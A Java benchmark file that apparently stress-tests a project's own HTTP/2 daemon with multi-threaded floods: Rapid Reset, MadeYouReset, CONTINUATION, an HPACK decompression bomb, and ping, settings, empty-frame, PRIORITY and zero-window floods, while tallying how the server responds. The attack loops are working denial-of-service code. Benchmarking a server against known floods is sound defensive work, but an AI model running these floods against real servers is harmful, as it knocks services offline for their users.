// SPDX-License-Identifier: Apache-2.0
package multipass.bench;

import multipass.platform.Address;
import multipass.tls.TlsContexts;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The HTTP/2 floods of issue 20, each a loop of {@link RawHttp2} frames that one attacker
 * thread sends on one connection for as long as the daemon keeps it, then on a new one,
 * until stopped. An attacker reuses its TLS context, so it resumes sessions where the daemon
 * lets it, as a determined attacker would. What the daemon did is tallied: connections made,
 * connections that failed to open, how each ended (the GOAWAY code it sent, or a plain close),
 * and the RST_STREAMs it sent.
 */
enum Http2Flood {
    /** Control: connect, preface, close, again; what any flood pays per reconnection. */
    RECONNECT("reconnect only (control)", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            c.flush();
        }
    },
    /** CVE-2023-44487: a call started (headers and its whole request message) and cancelled at once, without end. */
    RAPID_RESET("Rapid Reset", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] headers = c.callHeaders("list");
            byte[] message = RawHttp2.callMessage("list");
            byte[] cancel = ByteBuffer.allocate(4).putInt(8).array();
            while (run.going(c)) {
                int id = c.newStream();
                c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, headers);
                c.frame(RawHttp2.DATA, 0, id, message);
                c.frame(RawHttp2.RST_STREAM, 0, id, cancel);
                run.frames(3);
            }
        }
    },
    /**
     * CVE-2025-8671: calls started, then frames that make the daemon reset them: DATA on a stream
     * the client already half-closed, and WINDOW_UPDATE with increment 0, in turn.
     */
    MADE_YOU_RESET("MadeYouReset", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] headers = c.callHeaders("list");
            byte[] message = RawHttp2.callMessage("list");
            byte[] zero = new byte[4];
            boolean closedFirst = true;
            while (run.going(c)) {
                int id = c.newStream();
                c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, headers);
                if (closedFirst) {
                    c.frame(RawHttp2.DATA, RawHttp2.END_STREAM, id, message);
                    c.frame(RawHttp2.DATA, 0, id, message, 0, 1);
                } else {
                    c.frame(RawHttp2.DATA, 0, id, message);
                    c.frame(RawHttp2.WINDOW_UPDATE, 0, id, zero);
                }
                closedFirst = !closedFirst;
                run.frames(3);
            }
        }
    },
    /** VU#421644: a HEADERS without END_HEADERS, then CONTINUATION frames full of header fields, without end. */
    CONTINUATION("CONTINUATION flood", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] filler = fieldsOf(16_000);
            c.frame(RawHttp2.HEADERS, 0, c.newStream(), c.callHeaders("list"));
            while (run.going(c)) {
                c.frame(RawHttp2.CONTINUATION, 0, 1, filler);
                run.frames(1);
            }
        }
    },
    /**
     * A block of under 16 KiB that adds a 4,000-octet field to the dynamic table and refers to
     * it 11,000 times (44 MB decoded), each block opening with table size updates to 0 and back.
     */
    HPACK_BOMB("HPACK bomb", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] bomb = bombBlock(c.callHeaders("list"));
            while (run.going(c)) {
                c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, c.newStream(), bomb);
                run.frames(1);
            }
        }
    },
    /** CVE-2019-9512: PINGs, each of which the daemon must answer. */
    PING("ping flood", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] payload = new byte[8];
            long n = 0;
            while (run.going(c)) {
                ByteBuffer.wrap(payload).putLong(n++);
                c.frame(RawHttp2.PING, 0, 0, payload);
                run.frames(1);
            }
        }
    },
    /** CVE-2019-9515: SETTINGS that change the window and the table size, each to be applied and acknowledged. */
    SETTINGS("settings flood", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[][] settings = {settingsPayload(4096, 65_535), settingsPayload(0, 1 << 20)};
            int n = 0;
            while (run.going(c)) {
                c.frame(RawHttp2.SETTINGS, 0, 0, settings[n++ & 1]);
                run.frames(1);
            }
        }
    },
    /** CVE-2019-9518: a call opened, then DATA frames without payload or END_STREAM on it. */
    EMPTY_FRAMES("empty-frames flood", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            int id = c.newStream();
            c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, c.callHeaders("list"));
            byte[] empty = new byte[0];
            while (run.going(c)) {
                c.frame(RawHttp2.DATA, 0, id, empty);
                run.frames(1);
            }
        }
    },
    /** CVE-2019-9513: PRIORITY frames making 100 streams depend on one another in a shifting ring, exclusively. */
    PRIORITY("PRIORITY shuffling", 2, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] payload = new byte[5];
            int shift = 0;
            while (run.going(c)) {
                for (int i = 0; i < 100 && run.going(c); i++) {
                    int stream = 2 * i + 1;
                    int parent = 2 * ((i + 1 + shift) % 100) + 1;
                    ByteBuffer.wrap(payload).putInt(0x8000_0000 | parent).put((byte) (i * 37));
                    c.frame(RawHttp2.PRIORITY, 0, stream, payload);
                    run.frames(1);
                }
                shift = (shift + 1) % 99;
            }
        }
    },
    /**
     * CVE-2019-9517: a peer that opens with a window of 0 and never reads, making 100 calls
     * whose replies can never be sent, then holding on (a PING a second tells it when the
     * daemon has closed the connection).
     */
    ZERO_WINDOW("zero-window reader", 4, false) {
        @Override
        int[] settings() {
            return new int[] {RawHttp2.SETTINGS_INITIAL_WINDOW_SIZE, 0};
        }

        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] headers = c.callHeaders("list");
            byte[] message = RawHttp2.callMessage("list");
            for (int i = 0; i < 100 && run.going(c); i++) {
                int id = c.newStream();
                c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, headers);
                c.frame(RawHttp2.DATA, RawHttp2.END_STREAM, id, message);
                run.frames(2);
            }
            hold(c, run, true);
        }
    },
    /** 1,000 streams held open: 10 connections of 100 calls each, their request messages never finished. */
    HELD_STREAMS("1,000 held-open streams", 10, true) {
        @Override
        void attack(RawHttp2 c, Running run) throws IOException {
            byte[] headers = c.callHeaders("list");
            byte[] message = RawHttp2.callMessage("list");
            for (int i = 0; i < 100 && run.going(c); i++) {
                int id = c.newStream();
                c.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, id, headers);
                c.frame(RawHttp2.DATA, 0, id, message, 0, 3);
                run.frames(2);
            }
            hold(c, run, false);
        }
    };

    final String title;
    final int threads;
    final boolean reads;

    Http2Flood(String title, int threads, boolean reads) {
        this.title = title;
        this.threads = threads;
        this.reads = reads;
    }

    /** The SETTINGS the attacker opens with (pairs of identifier and value). */
    int[] settings() {
        return new int[0];
    }

    /** Sends the flood on {@code c} until it ends or the run stops; an IOException means the daemon closed it. */
    abstract void attack(RawHttp2 c, Running run) throws IOException;

    /** Keeps {@code c} open, sending nothing (or, with {@code ping}, a PING a second, to notice a close without reading). */
    static void hold(RawHttp2 c, Running run, boolean ping) throws IOException {
        c.flush();
        byte[] payload = new byte[8];
        long lastPing = System.nanoTime();
        while (run.going(c)) {
            try {
                Thread.sleep(50);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
            if (ping && System.nanoTime() - lastPing > 1_000_000_000L) {
                lastPing = System.nanoTime();
                c.frame(RawHttp2.PING, 0, 0, payload);
                c.flush();
            }
        }
    }

    /** Literal header fields without indexing, new names, about {@code size} octets in all. */
    static byte[] fieldsOf(int size) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(size + 128);
        byte[] value = new byte[100];
        Arrays.fill(value, (byte) 'a');
        for (int i = 0; out.size() + 110 <= size; i++) {
            byte[] name = String.format("x-f%04d", i % 10_000).getBytes(StandardCharsets.US_ASCII);
            out.write(0x00);
            out.write(name.length);
            out.write(name, 0, name.length);
            out.write(value.length);
            out.write(value, 0, value.length);
        }
        return out.toByteArray();
    }

    /** Size updates to 0 and 4096, the call's fields, a 4,000-octet field added to the table, then 11,000 references to it. */
    static byte[] bombBlock(byte[] callHeaders) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(16_384);
        out.write(0x20); // dynamic table size update: 0
        out.write(new byte[] {0x3f, (byte) 0xe1, 0x1f}, 0, 3); // and back to 4096
        out.write(callHeaders, 0, callHeaders.length);
        byte[] name = "x-bomb".getBytes(StandardCharsets.US_ASCII);
        out.write(0x40); // literal with incremental indexing, new name
        out.write(name.length);
        out.write(name, 0, name.length);
        out.write(new byte[] {0x7f, (byte) 0xa1, 0x1e}, 0, 3); // value length 4000 (127 + 3873)
        byte[] value = new byte[4000];
        Arrays.fill(value, (byte) 'b');
        out.write(value, 0, value.length);
        byte[] references = new byte[11_000];
        Arrays.fill(references, (byte) 0xbe); // indexed field 62: the newest dynamic entry
        out.write(references, 0, references.length);
        return out.toByteArray();
    }

    static byte[] settingsPayload(int tableSize, int window) {
        return ByteBuffer.allocate(12).putShort((short) RawHttp2.SETTINGS_HEADER_TABLE_SIZE).putInt(tableSize)
                .putShort((short) RawHttp2.SETTINGS_INITIAL_WINDOW_SIZE).putInt(window).array();
    }

    /** One flood in progress: its attacker threads and their tallies. */
    static final class Running {
        private final Http2Flood flood;
        private final Address address;
        private final TlsContexts contexts;
        private final List<Thread> threads = new ArrayList<>();
        private final Map<String, Integer> endings = new TreeMap<>();
        private final AtomicLong frames = new AtomicLong();
        private final AtomicLong connections = new AtomicLong();
        private final AtomicLong openFailures = new AtomicLong();
        private final AtomicLong resets = new AtomicLong();
        private volatile boolean stopped;

        Running(Http2Flood flood, Address address, TlsContexts contexts) {
            this.flood = flood;
            this.address = address;
            this.contexts = contexts;
        }

        void start() {
            for (int t = 0; t < flood.threads; t++) {
                Thread thread = new Thread(this::loop, "flood-" + flood.name() + "-" + t);
                thread.setDaemon(true);
                threads.add(thread);
                thread.start();
            }
        }

        boolean going(RawHttp2 c) {
            return !stopped && !c.ended();
        }

        void frames(int n) {
            frames.addAndGet(n);
        }

        private void loop() {
            while (!stopped) {
                RawHttp2 c;
                try {
                    c = RawHttp2.open(address, contexts, flood.reads, flood.settings());
                    connections.incrementAndGet();
                } catch (IOException | RuntimeException e) {
                    openFailures.incrementAndGet();
                    sleep(20);
                    continue;
                }
                String ending;
                try {
                    flood.attack(c, this);
                    c.flush();
                    ending = stopped ? "open at the end" : c.ended() ? c.endedBy() : "closed by the attacker";
                } catch (IOException e) {
                    ending = null;
                }
                if (ending == null) {
                    for (int i = 0; i < 20 && !c.ended() && flood.reads; i++) {
                        sleep(10); // let the reader see the GOAWAY that came before the close
                    }
                    ending = flood.reads ? c.endedBy() : "closed (never read)";
                }
                resets.addAndGet(c.resetsReceived());
                c.close();
                synchronized (endings) {
                    endings.merge(ending, 1, Integer::sum);
                }
            }
        }

        /** Stops the attackers and waits for them (their connections closed). */
        void stop() throws InterruptedException {
            stopped = true;
            for (Thread thread : threads) {
                thread.join(10_000);
            }
        }

        long connections() {
            return connections.get();
        }

        long openFailures() {
            return openFailures.get();
        }

        long frames() {
            return frames.get();
        }

        long resets() {
            return resets.get();
        }

        Map<String, Integer> endings() {
            synchronized (endings) {
                return new TreeMap<>(endings);
            }
        }

        private static void sleep(long millis) {
            try {
                Thread.sleep(millis);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }
}
